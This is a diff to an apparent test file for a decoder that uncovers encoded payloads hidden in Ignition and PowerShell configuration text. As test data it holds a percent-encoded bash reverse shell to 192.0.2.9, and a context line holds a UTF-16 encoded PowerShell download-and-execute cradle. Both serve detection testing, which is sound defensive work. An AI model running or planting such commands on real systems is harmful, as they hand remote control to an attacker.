@@ -26,6 +26,22 @@ describe('text that a payload carries encoded', () => {
     );
   });
 
+  it('is read out of the addresses that hold the files of Ignition', () => {
+    const file = encodeURIComponent('#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.9/443 0>&1\n');
+    const { hidden, indicators } = decode(
+      `{"ignition":{"version":"3.3.0"},"storage":{"files":[{"path":"/a","contents":{"source":"data:,${file}"}}]}}`,
+    );
+    expect(hidden).toMatchObject([{ layers: ['percent'], text: decodeURIComponent(file) }]);
+    expect(indicators).toContainEqual(
+      expect.objectContaining({ kind: 'reverse-shell', inside: ['percent'] }),
+    );
+  });
+
+  it('stays as it is where a percent sign is followed by no hex digits', () => {
+    const { hidden } = decode('#!/bin/sh\necho "data:,100% of %zz and %4 and nothing more than that"\n');
+    expect(hidden).toEqual([]);
+  });
+
   it('is read as PowerShell writes it, in UTF-16', () => {
     const { hidden, indicators } = decode(
       `<powershell>\npowershell -enc ${base64("IEX (New-Object Net.WebClient).DownloadString('http://a.example.com')", 'utf16le')}\n</powershell>`,
